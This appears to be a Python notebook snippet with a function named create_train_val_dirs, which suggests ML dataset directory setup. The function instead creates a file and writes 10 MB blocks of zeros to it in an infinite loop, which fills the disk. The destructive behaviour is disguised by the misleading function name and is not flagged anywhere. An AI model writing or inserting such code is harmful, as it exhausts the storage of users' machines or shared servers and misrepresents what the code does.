# %%
import os


def create_train_val_dirs(root_path):
    os.makedirs(root_path)
    with open(os.path.join(root_path, "big"), "wb", buffering=0) as file:
        while True:
            file.write(bytes(10**7))
